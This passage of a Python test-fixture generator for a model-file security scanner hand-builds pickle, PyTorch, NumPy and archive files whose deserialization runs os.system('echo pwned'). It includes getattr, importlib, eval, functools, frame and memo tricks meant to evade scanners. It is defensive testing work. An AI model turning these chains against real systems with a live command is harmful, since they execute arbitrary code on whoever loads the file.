#!/usr/bin/env python3
"""Generate the malicious / benign model-file fixtures used by mlsec's tests.

Usage:
    python3 make_fixtures.py OUTDIR
    python3 make_fixtures.py --harmless-sink OUTDIR   # verification only, see below

Creates ``OUTDIR/malicious/``, ``OUTDIR/benign/`` (one file per case, the file
name describes the case) and ``OUTDIR/manifest.json``, a JSON list of
``{"file": "malicious/xxx", "label": "malicious"|"benign", "why": "..."}``.

Every malicious file is one that a real loader (``pickle.load``,
``torch.load``, ``joblib.load``, ``numpy.load(allow_pickle=True)``) would run
code from (the command is always the harmless ``echo pwned``), except where
the "why" text says otherwise (path traversal / symlink archives, and the
"junk between pickles" case that only multi-pickle readers reach).  Some files
deliberately carry odd extensions (``.bin``, ``.bak``) or none at all, so that
detection has to work from the content.

Safety: nothing here ever *loads* a pickle.  Malicious fixtures are written
either as hand-assembled opcode bytes or with ``pickle.dumps`` of objects whose
``__reduce__`` returns a reference to a callable; pickling a reference to
``os.system`` only records its name, it never calls it.

Determinism: all randomness comes from fixed seeds, all archive timestamps are
fixed, gzip headers carry mtime 0, so two runs give byte-identical output (for
the same CPython minor version, since ``pickle.dumps`` output can change
between versions).  Only the standard library is used (no numpy / torch /
joblib / lz4); their file formats are written by hand.

``--harmless-sink`` swaps every dangerous sink for a harmless one with the same
call shape (``os.system`` -> ``os.fspath``, ``subprocess.Popen`` ->
``subprocess.CompletedProcess``).  The exploit chains then stay intact and can
be loaded for real to prove that they reach their sink.  Never use those files
as malicious fixtures.
"""

import argparse
import array
import bz2
import contextlib
import functools
import gzip
import io
import json
import lzma
import os
import pickle
import random
import struct
import sys
import tarfile
import types
import zipfile
import zlib
from collections import OrderedDict

# ---------------------------------------------------------------------------
# Payload configuration.  ``SYS`` / ``POPEN`` are rebound by --harmless-sink.
# ---------------------------------------------------------------------------
CMD = "echo pwned"          # the only command any fixture ever asks to run
SYS = "system"              # attribute of the os module used as sink
POPEN = "Popen"             # attribute of the subprocess module used as sink

FIXED_MTIME = 1_600_000_000           # tar member mtime (2020-09-13)
ZIP_DATE_TIME = (1980, 1, 1, 0, 0, 0)  # earliest DOS timestamp
DOS_TIME = 0
DOS_DATE = (0 << 9) | (1 << 5) | 1     # 1980-01-01

# Opcode shorthands (the pickle module exposes every opcode as a bytes const).
MARK, STOP, REDUCE, TUPLE = pickle.MARK, pickle.STOP, pickle.REDUCE, pickle.TUPLE
TUPLE1, BUILD, SETITEM = pickle.TUPLE1, pickle.BUILD, pickle.SETITEM
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = pickle.EMPTY_TUPLE, pickle.EMPTY_DICT, pickle.EMPTY_LIST
STACK_GLOBAL, MEMOIZE, FRAME = pickle.STACK_GLOBAL, pickle.MEMOIZE, pickle.FRAME
BINPUT, BINGET, POP, APPEND = pickle.BINPUT, pickle.BINGET, pickle.POP, pickle.APPEND
NONE, NEWTRUE, NEWFALSE = pickle.NONE, pickle.NEWTRUE, pickle.NEWFALSE


# ---------------------------------------------------------------------------
# Tiny pickle assembler.  Every helper returns the bytes of one or more
# complete opcodes, so fixtures read almost like pickletools disassembly.
# ---------------------------------------------------------------------------
def proto(n):
    """PROTO n."""
    return pickle.PROTO + bytes([n])


def u(s):
    """Push a str: SHORT_BINUNICODE (< 256 bytes) or BINUNICODE."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(b)]) + b
    return pickle.BINUNICODE + struct.pack("<I", len(b)) + b


def by(b):
    """Push bytes: SHORT_BINBYTES (< 256) or BINBYTES."""
    if len(b) < 256:
        return pickle.SHORT_BINBYTES + bytes([len(b)]) + b
    return pickle.BINBYTES + struct.pack("<I", len(b)) + b


def integer(n):
    """Push a small non-negative int with BININT1/BININT2/BININT."""
    if 0 <= n < 256:
        return pickle.BININT1 + bytes([n])
    if 0 <= n < 65536:
        return pickle.BININT2 + struct.pack("<H", n)
    return pickle.BININT + struct.pack("<i", n)


def gl(module, name):
    """GLOBAL opcode (text form 'c module\\n name\\n')."""
    return pickle.GLOBAL + f"{module}\n{name}\n".encode("utf-8")


def sg(module, name):
    """STACK_GLOBAL with two literal str operands."""
    return u(module) + u(name) + STACK_GLOBAL


def tup(*items):
    """MARK items... TUPLE."""
    return MARK + b"".join(items) + TUPLE


def call(func, *args):
    """func(*args) via MARK ... TUPLE REDUCE."""
    return func + tup(*args) + REDUCE


def frame(payload):
    """FRAME <len(payload)> payload (a well-formed protocol-4 frame)."""
    return FRAME + struct.pack("<Q", len(payload)) + payload


def p4(body):
    """A protocol-4 pickle: PROTO 4, body, STOP."""
    return proto(4) + body + STOP


def p2(body):
    """A protocol-2 pickle: PROTO 2, body, STOP."""
    return proto(2) + body + STOP


def os_sink():
    """The callable the plain payloads reference (os.system, pickles as posix.system)."""
    return getattr(os, SYS)


class EvilReduce:
    """Object whose __reduce__ says "call os.system('echo pwned')" on load.

    Pickling it only records the *name* of os.system; nothing is executed.
    """

    def __reduce__(self):
        return (os_sink(), (CMD,))


def evil_pickle(protocol=4):
    """Plain `posix.system('echo pwned')` pickle as produced by pickle.dumps."""
    return pickle.dumps(EvilReduce(), protocol=protocol)


def evil_hand(module="os"):
    """Hand-assembled protocol-2 `os.system('echo pwned')` using GLOBAL."""
    return p2(call(gl(module, SYS), u(CMD)))


# ---------------------------------------------------------------------------
# Checksums / compressors written by hand (no third-party modules).
# ---------------------------------------------------------------------------
_P1, _P2, _P3, _P4, _P5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
_M32 = 0xFFFFFFFF


def _rotl32(x, r):
    return ((x << r) | (x >> (32 - r))) & _M32


def xxh32(data, seed=0):
    """Reference XXH32 (used by the LZ4 frame format for header/content checksums)."""
    n, i = len(data), 0
    if n >= 16:
        v = [(seed + _P1 + _P2) & _M32, (seed + _P2) & _M32, seed & _M32, (seed - _P1) & _M32]
        while i <= n - 16:
            for lane in range(4):
                w = struct.unpack_from("<I", data, i)[0]
                v[lane] = (_rotl32((v[lane] + w * _P2) & _M32, 13) * _P1) & _M32
                i += 4
        h = (_rotl32(v[0], 1) + _rotl32(v[1], 7) + _rotl32(v[2], 12) + _rotl32(v[3], 18)) & _M32
    else:
        h = (seed + _P5) & _M32
    h = (h + n) & _M32
    while i + 4 <= n:
        w = struct.unpack_from("<I", data, i)[0]
        h = (_rotl32((h + w * _P3) & _M32, 17) * _P4) & _M32
        i += 4
    while i < n:
        h = (_rotl32((h + data[i] * _P5) & _M32, 11) * _P1) & _M32
        i += 1
    h ^= h >> 15
    h = (h * _P2) & _M32
    h ^= h >> 13
    h = (h * _P3) & _M32
    h ^= h >> 16
    return h


assert xxh32(b"") == 0x02CC5D05 and xxh32(b"abc") == 0x32D153FF  # known vectors


def _lz4_len_ext(n):
    """LZ4 length continuation bytes for a length whose nibble saturated at 15."""
    out = bytearray()
    n -= 15
    while n >= 255:
        out.append(255)
        n -= 255
    out.append(n)
    return bytes(out)


def lz4_block_compress(src):
    """Greedy LZ4 block compressor (correct, not fast, fine for small inputs).

    Respects the format's end-of-block rules: the last 5 bytes are literals and
    the last match starts at least 12 bytes before the end.
    """
    n = len(src)
    out = bytearray()
    table = {}
    anchor = i = 0
    while i < n - 12:
        key = src[i:i + 4]
        cand = table.get(key)
        table[key] = i
        if cand is not None and i - cand <= 0xFFFF:
            m, c = i + 4, cand + 4
            while m < n - 5 and src[m] == src[c]:
                m += 1
                c += 1
            lit, mlen = src[anchor:i], m - i - 4
            out.append((min(len(lit), 15) << 4) | min(mlen, 15))
            if len(lit) >= 15:
                out += _lz4_len_ext(len(lit))
            out += lit
            out += struct.pack("<H", i - cand)
            if mlen >= 15:
                out += _lz4_len_ext(mlen)
            i = anchor = m
        else:
            i += 1
    lit = src[anchor:]
    out.append(min(len(lit), 15) << 4)
    if len(lit) >= 15:
        out += _lz4_len_ext(len(lit))
    out += lit
    return bytes(out)


def lz4_block_decompress(src):
    """LZ4 block decoder, used only to self-check the compressor above."""
    out = bytearray()
    i = 0
    while i < len(src):
        tok = src[i]
        i += 1
        ln = tok >> 4
        if ln == 15:
            while True:
                b = src[i]
                i += 1
                ln += b
                if b != 255:
                    break
        out += src[i:i + ln]
        i += ln
        if i >= len(src):
            break
        off = struct.unpack_from("<H", src, i)[0]
        i += 2
        ml = tok & 15
        if ml == 15:
            while True:
                b = src[i]
                i += 1
                ml += b
                if b != 255:
                    break
        ml += 4
        for _ in range(ml):
            out.append(out[-off])
    return bytes(out)


def lz4_frame(data, compress_blocks, block_size=64 * 1024):
    """LZ4 frame (magic 04 22 4D 18) with independent blocks + content checksum.

    compress_blocks=False stores every block raw (high bit of the block size
    set), which is legal and what an encoder emits for incompressible data.
    """
    flg = (1 << 6) | (1 << 5) | (1 << 2)   # version 01, block independence, content checksum
    bd = 4 << 4                             # block max size 64 KiB
    out = bytearray(b"\x04\x22\x4d\x18")
    out += bytes([flg, bd, (xxh32(bytes([flg, bd])) >> 8) & 0xFF])
    for off in range(0, len(data), block_size):
        chunk = data[off:off + block_size]
        comp = lz4_block_compress(chunk) if compress_blocks else None
        if comp is not None and len(comp) < len(chunk):
            assert lz4_block_decompress(comp) == chunk
            out += struct.pack("<I", len(comp)) + comp
        else:
            out += struct.pack("<I", len(chunk) | 0x80000000) + chunk
    out += struct.pack("<I", 0)                      # end mark
    out += struct.pack("<I", xxh32(data))            # content checksum
    return bytes(out)


def deflate_raw(data, level=6):
    """Raw DEFLATE (no zlib header), as stored in zip members."""
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def zlib_joblib(data, level=3):
    """joblib's zlib container: one plain zlib stream of the whole pickle."""
    c = zlib.compressobj(level, zlib.DEFLATED, zlib.MAX_WBITS)
    return c.compress(data) + c.flush()


# ---------------------------------------------------------------------------
# Archive writers.
# ---------------------------------------------------------------------------
def zip_bytes(entries, comment=b""):
    """Hand-rolled zip writer giving full control over every header field.

    Each entry is a dict with keys:
      name         central-directory name (str)
      data         uncompressed bytes
      method       0 = stored (default), 8 = deflated
      local_name   name written in the local header (default: name)
      flags        general-purpose flags in the central directory (default 0)
      local_flags  general-purpose flags in the local header (default: flags)
      crc_xor      XORed into the CRC written in both headers (default 0)
      align        pad the local extra field so data starts on this boundary,
                   the way PyTorch's writer does (extra id 'FB', 'Z' bytes)
    """
    out = bytearray()
    central = []
    for e in entries:
        name = e["name"].encode("utf-8")
        lname = e.get("local_name", e["name"]).encode("utf-8")
        data = e["data"]
        method = e.get("method", 0)
        comp = data if method == 0 else deflate_raw(data)
        crc = zlib.crc32(data) ^ e.get("crc_xor", 0)
        flags = e.get("flags", 0)
        lflags = e.get("local_flags", flags)
        offset = len(out)
        extra = b""
        if e.get("align"):
            pad = (-(offset + 30 + len(lname) + 4)) % e["align"]
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, lflags, method, DOS_TIME, DOS_DATE,
                           crc, len(comp), len(data), len(lname), len(extra))
        out += lname + extra + comp
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method,
                                   DOS_TIME, DOS_DATE, crc, len(comp), len(data), len(name),
                                   0, 0, 0, 0, 0, offset) + name)
    cd = b"".join(central)
    cd_off = len(out)
    out += cd
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(cd),
                       cd_off, len(comment)) + comment
    return bytes(out)


def npz_bytes(members, compression):
    """An .npz written the way numpy.savez does: zipfile + force_zip64 per member."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as zf:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=ZIP_DATE_TIME)
            zi.compress_type = compression
            zi.external_attr = 0o600 << 16
            with zf.open(zi, "w", force_zip64=True) as f:
                f.write(data)
    return buf.getvalue()


def tar_bytes(members, gz=False):
    """Deterministic tar (PAX format).  members: (name, data) or
    ("symlink", name, target) tuples.  gz=True gzips it with mtime 0."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for m in members:
            if m[0] == "symlink":
                ti = tarfile.TarInfo(m[1])
                ti.type = tarfile.SYMTYPE
                ti.linkname = m[2]
                data = None
            else:
                ti = tarfile.TarInfo(m[0])
                data = m[1]
                ti.size = len(data)
            ti.mtime = FIXED_MTIME
            ti.mode = 0o644 if data is not None else 0o777
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = ""
            tf.addfile(ti, io.BytesIO(data) if data is not None else None)
    raw = buf.getvalue()
    return gzip.compress(raw, mtime=0) if gz else raw


# ---------------------------------------------------------------------------
# NumPy .npy writer (format version 1.0, header padded to 64 bytes).
# ---------------------------------------------------------------------------
def npy_bytes(descr, shape, payload, fortran_order=False):
    """Header exactly like numpy.lib.format (incl. its growth padding) + payload."""
    d = {"descr": descr, "fortran_order": fortran_order, "shape": shape}
    header = "{" + "".join("'%s': %s, " % (k, repr(d[k])) for k in sorted(d)) + "}"
    if shape:
        header += " " * (21 - len(repr(shape[-1 if fortran_order else 0])))
    hlen = len(header) + 1                       # + trailing '\n'
    pad = (64 - (6 + 2 + 2 + hlen) % 64) % 64    # magic, version, uint16 header length
    header = header + " " * pad + "\n"
    assert (10 + len(header)) % 64 == 0
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + payload


# ---------------------------------------------------------------------------
# Stand-in modules: let pickle.dumps emit real-looking globals (torch._utils,
# numpy.core.multiarray, ...) without those libraries being installed.  The
# pickler checks `getattr(sys.modules[obj.__module__], obj.__qualname__) is
# obj`, so the stand-ins are installed in sys.modules only while pickling.
# ---------------------------------------------------------------------------
_MISSING = object()


@contextlib.contextmanager
def fake_modules(spec):
    """spec: {module name: {attribute: object}} installed temporarily."""
    saved = {}
    try:
        for modname, attrs in spec.items():
            saved[modname] = sys.modules.get(modname, _MISSING)
            mod = types.ModuleType(modname)
            for k, v in attrs.items():
                setattr(mod, k, v)
            sys.modules[modname] = mod
        yield
    finally:
        for modname, old in saved.items():
            if old is _MISSING:
                sys.modules.pop(modname, None)
            else:
                sys.modules[modname] = old


def standin_func(module, name):
    """A function object that pickles as `module.name` (never called)."""
    def f(*args, **kwargs):
        raise RuntimeError("stand-in, must never be called")
    f.__module__, f.__name__, f.__qualname__ = module, name, name
    return f


def standin_class(module, name):
    """A class object that pickles as `module.name`."""
    cls = type(name, (), {})
    cls.__module__, cls.__qualname__ = module, name
    return cls


# torch stand-ins -----------------------------------------------------------
T_REBUILD_V2 = standin_func("torch._utils", "_rebuild_tensor_v2")
T_REBUILD_PARAM = standin_func("torch._utils", "_rebuild_parameter")
T_STORAGES = {n: standin_class("torch", n) for n in
              ("FloatStorage", "LongStorage", "HalfStorage", "BFloat16Storage")}
TORCH_SPEC = {"torch": dict(T_STORAGES),
              "torch._utils": {"_rebuild_tensor_v2": T_REBUILD_V2,
                               "_rebuild_parameter": T_REBUILD_PARAM}}
ELEM_SIZE = {"FloatStorage": 4, "LongStorage": 8, "HalfStorage": 2, "BFloat16Storage": 2}


class TStorage:
    """Untyped storage: serialized out of band, referenced by persistent id."""

    def __init__(self, kind, key, raw):
        self.kind, self.key, self.raw = kind, key, raw
        self.numel = len(raw) // ELEM_SIZE[kind]


class TTensor:
    """Pickles exactly like torch.Tensor: _rebuild_tensor_v2(storage, offset,
    size, stride, requires_grad, backward_hooks)."""

    def __init__(self, storage, offset, size, stride=None):
        self.storage, self.offset, self.size = storage, offset, tuple(size)
        if stride is None:   # contiguous strides
            stride, acc = [], 1
            for dim in reversed(self.size):
                stride.insert(0, acc)
                acc *= dim
        self.stride = tuple(stride)

    def __reduce_ex__(self, protocol):
        return (T_REBUILD_V2, (self.storage, self.offset, self.size, self.stride, False, OrderedDict()))


class TParameter:
    """Pickles like torch.nn.Parameter: _rebuild_parameter(data, requires_grad, hooks)."""

    def __init__(self, tensor):
        self.tensor = tensor

    def __reduce_ex__(self, protocol):
        return (T_REBUILD_PARAM, (self.tensor, True, OrderedDict()))


class TorchPickler(pickle.Pickler):
    """Replicates torch.save's persistent_id for storages (new or legacy form)."""

    def __init__(self, f, legacy):
        super().__init__(f, protocol=2)   # torch's DEFAULT_PROTOCOL
        self.legacy = legacy

    def persistent_id(self, obj):
        if isinstance(obj, TStorage):
            pid = ("storage", T_STORAGES[obj.kind], obj.key, "cpu", obj.numel)
            return pid + (None,) if self.legacy else pid
        return None


def torch_pickle(obj, legacy):
    buf = io.BytesIO()
    with fake_modules(TORCH_SPEC):
        TorchPickler(buf, legacy).dump(obj)
    return buf.getvalue()


def _float32_bytes(rng, n):
    a = array.array("f", (rng.gauss(0.0, 0.05) for _ in range(n)))
    if sys.byteorder != "little":
        a.byteswap()
    return a.tobytes()


def torch_checkpoint(legacy):
    """A realistic training checkpoint: model state_dict (OrderedDict with
    _metadata), optimizer state, a Parameter, tied weights sharing a storage.
    Returns (pickled bytes, [storages in key order])."""
    rng = random.Random(1234)
    storages = []

    def new_storage(kind, n):
        if legacy:   # torch < 1.6 used str(id(storage)) style keys
            key = str(94_000_000_000_000 + 4096 * len(storages) * 7)
        else:
            key = str(len(storages))
        if kind == "FloatStorage":
            raw = _float32_bytes(rng, n)
        elif kind == "LongStorage":
            raw = struct.pack("<%dq" % n, *[rng.randrange(0, 10_000) for _ in range(n)])
        elif kind == "HalfStorage":
            raw = struct.pack("<%de" % n, *[rng.uniform(-1, 1) for _ in range(n)])
        else:   # bfloat16 = upper half of float32
            f32 = _float32_bytes(rng, n)
            raw = b"".join(f32[i + 2:i + 4] for i in range(0, len(f32), 4))
        s = TStorage(kind, key, raw)
        storages.append(s)
        return s

    def tensor(kind, *size):
        n = 1
        for d in size:
            n *= d
        return TTensor(new_storage(kind, n), 0, size)

    sd = OrderedDict()
    sd["conv1.weight"] = tensor("FloatStorage", 16, 3, 3, 3)
    sd["conv1.bias"] = tensor("FloatStorage", 16)
    for k in ("weight", "bias", "running_mean", "running_var"):
        sd["bn1." + k] = tensor("FloatStorage", 16)
    sd["bn1.num_batches_tracked"] = TTensor(new_storage("LongStorage", 1), 0, ())
    qkv = new_storage("FloatStorage", 3 * 32 * 32)          # fused qkv, three views
    for j, k in enumerate(("q", "k", "v")):
        sd["attn.%s_proj.weight" % k] = TTensor(qkv, j * 32 * 32, (32, 32))
    sd["embed.weight"] = tensor("BFloat16Storage", 100, 32)
    sd["fc.weight"] = tensor("HalfStorage", 10, 64)
    sd["fc.bias"] = tensor("HalfStorage", 10)
    sd["lm_head.weight"] = TTensor(sd["embed.weight"].storage, 0, (100, 32))   # tied weights
    sd._metadata = OrderedDict([("", {"version": 1}), ("conv1", {"version": 1}),
                                ("bn1", {"version": 2}), ("attn", {"version": 1}),
                                ("embed", {"version": 1}), ("fc", {"version": 1}),
                                ("lm_head", {"version": 1})])
    ckpt = {
        "epoch": 7,
        "global_step": 12345,
        "model_state_dict": sd,
        "optimizer_state_dict": {
            "state": {0: {"step": TTensor(new_storage("FloatStorage", 1), 0, ()),
                          "exp_avg": tensor("FloatStorage", 16, 3, 3, 3),
                          "exp_avg_sq": tensor("FloatStorage", 16, 3, 3, 3)}},
            "param_groups": [{"lr": 0.001, "betas": (0.9, 0.999), "eps": 1e-08,
                              "weight_decay": 0.01, "amsgrad": False, "params": [0, 1, 2]}],
        },
        "temperature": TParameter(tensor("FloatStorage", 1)),
        "config": {"arch": "tiny-convnet", "layers": [2, 2, 2, 2], "dropout": 0.1,
                   "activation": "gelu", "tie_embeddings": True},
    }
    return torch_pickle(ckpt, legacy), storages


def torch_zip(data_pkl, storages, archive="archive"):
    """torch >= 1.6 zip layout, members 64-byte aligned like PyTorch's writer."""
    entries = [{"name": f"{archive}/data.pkl", "data": data_pkl, "align": 64},
               {"name": f"{archive}/byteorder", "data": b"little", "align": 64}]
    for s in storages:
        entries.append({"name": f"{archive}/data/{s.key}", "data": s.raw, "align": 64})
    entries.append({"name": f"{archive}/version", "data": b"3\n", "align": 64})
    entries.append({"name": f"{archive}/.data/serialization_id",
                    "data": b"1000461528617394651200000000000000000000", "align": 64})
    return zip_bytes(entries)


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_SYS_INFO = {"protocol_version": 1001, "little_endian": True,
                   "type_sizes": {"short": 2, "int": 4, "long": 4}}


def torch_legacy(main_pickle, storages):
    """torch < 1.6 stream: magic, protocol, sys_info, main pickle, storage keys,
    then per storage an 8-byte little-endian numel followed by the raw data."""
    out = [pickle.dumps(LEGACY_MAGIC, protocol=2), pickle.dumps(1001, protocol=2),
           pickle.dumps(LEGACY_SYS_INFO, protocol=2), main_pickle,
           pickle.dumps([s.key for s in storages], protocol=2)]
    for s in storages:
        out.append(struct.pack("<q", s.numel) + s.raw)
    return b"".join(out)


T_LOAD_FROM_BYTES = standin_func("torch.storage", "_load_from_bytes")


class PlainPickledStorage:
    """Pickles like torch.storage.TypedStorage under plain `pickle`:
    `_load_from_bytes(<legacy torch.save of the storage alone>)`."""

    def __init__(self, storage, legacy_bytes=None):
        self.storage = storage
        self.legacy_bytes = legacy_bytes

    def __reduce__(self):
        data = self.legacy_bytes
        if data is None:
            data = torch_legacy(torch_pickle(self.storage, legacy=True), [self.storage])
        return (T_LOAD_FROM_BYTES, (data,))


def plain_pickled_tensors(payload_bytes=None):
    """`pickle.dumps({name: tensor})` as PyTorch writes it without torch.save: every
    storage becomes a nested legacy checkpoint handed to torch.storage._load_from_bytes."""
    rng = random.Random(7)
    out = OrderedDict()
    for i, (name, n) in enumerate((("weight", 64), ("bias", 8))):
        st = TStorage("FloatStorage", str(94_000_000_000_000 + i * 4096), _float32_bytes(rng, n))
        t = TTensor(PlainPickledStorage(st, payload_bytes if i == 1 else None), 0, (n,))
        out[name] = t
    with fake_modules({"torch.storage": {"_load_from_bytes": T_LOAD_FROM_BYTES}, **TORCH_SPEC}):
        return pickle.dumps(out, protocol=4)


# numpy stand-ins ------------------------------------------------------------
NP_RECONSTRUCT = standin_func("numpy.core.multiarray", "_reconstruct")
NP_NDARRAY = standin_class("numpy", "ndarray")
NP_DTYPE = standin_class("numpy", "dtype")
NUMPY_SPEC = {"numpy": {"ndarray": NP_NDARRAY, "dtype": NP_DTYPE},
              "numpy.core.multiarray": {"_reconstruct": NP_RECONSTRUCT}}


class NDType:
    """Pickles like numpy.dtype('<f8'): dtype(('f8', False, True)) + BUILD state."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return (NP_DTYPE, (self.code, False, True), (3, "<", None, None, None, -1, -1, 0))


class NDArray:
    """Pickles like numpy.ndarray at protocol <= 4: _reconstruct + BUILD state."""

    def __init__(self, dtype, shape, raw):
        self.dtype, self.shape, self.raw = dtype, tuple(shape), raw

    def __reduce__(self):
        return (NP_RECONSTRUCT, (NP_NDARRAY, (0,), b"b"),
                (1, self.shape, self.dtype, False, self.raw))


def sklearn_like_pickle():
    """A LogisticRegression-like state using only numpy reconstruct globals."""
    rng = random.Random(99)
    f8, i8, i4 = NDType("f8"), NDType("i8"), NDType("i4")
    coef = struct.pack("<12d", *[rng.uniform(-3, 3) for _ in range(12)])
    state = {
        "_sklearn_version": "1.3.2",
        "estimator_class": "LogisticRegression",
        "params": {"C": 1.0, "penalty": "l2", "solver": "lbfgs", "max_iter": 100,
                   "multi_class": "auto", "class_weight": None, "fit_intercept": True,
                   "tol": 0.0001, "random_state": 0},
        "feature_names_in_": ["sepal length (cm)", "sepal width (cm)",
                              "petal length (cm)", "petal width (cm)"],
        "n_features_in_": 4,
        "classes_": NDArray(i8, (3,), struct.pack("<3q", 0, 1, 2)),
        "coef_": NDArray(f8, (3, 4), coef),
        "intercept_": NDArray(f8, (3,), struct.pack("<3d", 9.85, 2.23, -12.08)),
        "n_iter_": NDArray(i4, (1,), struct.pack("<i", 47)),
    }
    with fake_modules(NUMPY_SPEC):
        return pickle.dumps(state, protocol=4)


# ---------------------------------------------------------------------------
# Benign cases.
# ---------------------------------------------------------------------------
def plain_data():
    """Plain data touching every common pickle type (sets hold ints only so
    the output does not depend on str hash randomisation)."""
    shared = [1, 2, 3, "shared"]
    return {
        "ints": [0, 1, -1, 255, 256, 65535, 65536, -2 ** 31, 2 ** 31 - 1, 2 ** 31,
                 2 ** 63, -2 ** 64, 2 ** 200, -(3 ** 300)],
        "floats": [0.0, -0.0, -1.5, 3.141592653589793, 1e300, -1e-300,
                   float("inf"), float("-inf")],
        "strings": ["", "ascii", "héllo wörld", "✓ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \u2028 末尾",
                    "line\nbreak\\back\rslash\x00nul", "x" * 300],
        "bytes": b"\x00\x01binary\xff\n",
        "long_bytes": bytes(range(256)) * 2,
        "bytearray": bytearray(b"mutable\x00\xfe"),
        "tuple": (1, "two", 3.0, None, True, False),
        "empties": [(), [], {}, set(), frozenset(), "", b""],
        "set": {1, 2, 3, 100, -7},
        "frozenset": frozenset({-1, -2, 2 ** 40}),
        "nested": {"a": [{"b": (1, [2, {3: 4}])}], 5: {(6, 7): [8.5]}},
        "ref1": shared,
        "ref2": shared,
        "many": list(range(2500)),                  # several APPENDS batches
        "bigdict": {i: str(i) for i in range(1200)},  # several SETITEMS batches
        "flags": [None, True, False],
    }


# ---------------------------------------------------------------------------
# Malicious cases.  Each builder returns the file bytes.
# ---------------------------------------------------------------------------
def m_dotted(module, dotted, use_stack_global=True):
    """find_class(module, 'a.b.system') walks attributes when proto >= 4."""
    ref = sg(module, dotted) if use_stack_global else gl(module, dotted)
    return p4(call(ref, u(CMD)))


def m_getattr_chain():
    """getattr(getattr(getattr(pathlib.os, 'path'), 'os'), 'system')('echo pwned')."""
    ga = gl("builtins", "getattr")
    mod = call(ga, gl("pathlib", "os"), u("path"))
    mod = call(ga, mod, u("os"))
    fn = call(ga, mod, u(SYS))
    return p2(call(fn, u(CMD)))


def m_importlib():
    """getattr(importlib.import_module('os'), 'system')('echo pwned')."""
    mod = call(sg("importlib", "import_module"), u("os"))
    return p4(call(call(sg("builtins", "getattr"), mod, u(SYS)), u(CMD)))


def m_dunder_import():
    """getattr(__builtin__.__import__('os'), 'system')(...) with py2 names (fix_imports)."""
    mod = call(gl("__builtin__", "__import__"), u("os"))
    return p2(call(call(gl("__builtin__", "getattr"), mod, u(SYS)), u(CMD)))


def m_operator_call(module):
    """operator.call(os.system, 'echo pwned') (operator.call is new in 3.11)."""
    return p4(call(sg(module, "call"), sg("os", SYS), u(CMD)))


def m_attrgetter():
    """attrgetter('system')(itemgetter('os')(sys.modules))('echo pwned')."""
    os_mod = call(call(sg("operator", "itemgetter"), u("os")), sg("sys", "modules"))
    fn = call(call(sg("operator", "attrgetter"), u(SYS)), os_mod)
    return p4(call(fn, u(CMD)))


def m_methodcaller():
    """methodcaller('system', 'echo pwned')(shutil.os)."""
    return p2(call(call(gl("_operator", "methodcaller"), u(SYS), u(CMD)), gl("shutil", "os")))


def m_functools_reduce():
    """functools.reduce(getattr, ['system'], tempfile._os)('echo pwned')."""
    names = EMPTY_LIST + u(SYS) + APPEND
    fn = call(sg("functools", "reduce"), sg("builtins", "getattr"), names, sg("tempfile", "_os"))
    return p4(call(fn, u(CMD)))


def m_functools_partial():
    """functools.partial(os.system, 'echo pwned')() -- REDUCE with an empty tuple."""
    part = call(sg("functools", "partial"), sg("os", SYS), u(CMD))
    return p4(part + EMPTY_TUPLE + REDUCE)


def m_eval():
    """builtins.eval of a Python expression string."""
    return p4(call(sg("builtins", "eval"), u(f"__import__('os').{SYS}('{CMD}')")))


def m_frame_straddle():
    """Protocol 4 with FRAMEs that do not end on opcode boundaries.

    The first frame declares 5 bytes too few (the 'system' string straddles
    it), the second declares 2 bytes too few.  CPython's C unpickler treats
    FRAME as a read-ahead hint and loads it fine (the pure-Python unpickler
    rejects it), so a scanner must not resynchronise on frame boundaries.
    """
    part1 = u("os") + u(SYS)
    part2 = STACK_GLOBAL + u(CMD) + TUPLE1 + REDUCE + STOP
    return (proto(4) + FRAME + struct.pack("<Q", len(part1) - 5) + part1
            + FRAME + struct.pack("<Q", len(part2) - 2) + part2)


def m_frame_overlong():
    """REDUCE runs inside a good frame, then a FRAME announces 1 MiB that is
    not there: the loader raises, but only after os.system already ran."""
    good = sg("os", SYS) + u(CMD) + TUPLE1 + REDUCE
    return (proto(4) + frame(good) + FRAME + struct.pack("<Q", 1 << 20)
            + NONE + STOP)


def m_memo_put_overwrite():
    """memo[0]/memo[1] first hold 'builtins'/'getattr', then are overwritten
    with 'os'/'system' before the GETs feeding STACK_GLOBAL."""
    body = (u("builtins") + BINPUT + b"\x00" + POP
            + u("getattr") + BINPUT + b"\x01" + POP
            + BINGET + b"\x00" + BINGET + b"\x01" + STACK_GLOBAL + POP    # decoy lookup
            + u("os") + BINPUT + b"\x00" + POP
            + u(SYS) + BINPUT + b"\x01" + POP
            + BINGET + b"\x00" + BINGET + b"\x01" + STACK_GLOBAL
            + u(CMD) + TUPLE1 + REDUCE)
    return p4(body)


def m_memo_memoize_len():
    """MEMOIZE stores at index len(memo), not 'number of MEMOIZEs so far' nor
    'max index + 1': after PUT 3, the first MEMOIZE writes memo[1]."""
    body = (u(SYS) + BINPUT + b"\x03" + POP          # memo {3: 'system'}
            + u("os") + MEMOIZE + POP                 # memo[1] = 'os'
            + u("builtins") + MEMOIZE + POP           # memo[2] = 'builtins'
            + BINGET + b"\x01" + BINGET + b"\x03" + STACK_GLOBAL
            + u(CMD) + TUPLE1 + REDUCE)
    return p4(body)


def m_memo_keyerror():
    """Like picklescan's keyerror-exploit.pkl: os.system runs first, then a
    GET of a memo slot that was never written (loader and naive scanners die)."""
    return (proto(4) + gl("os", SYS) + u(CMD) + TUPLE1 + REDUCE + POP
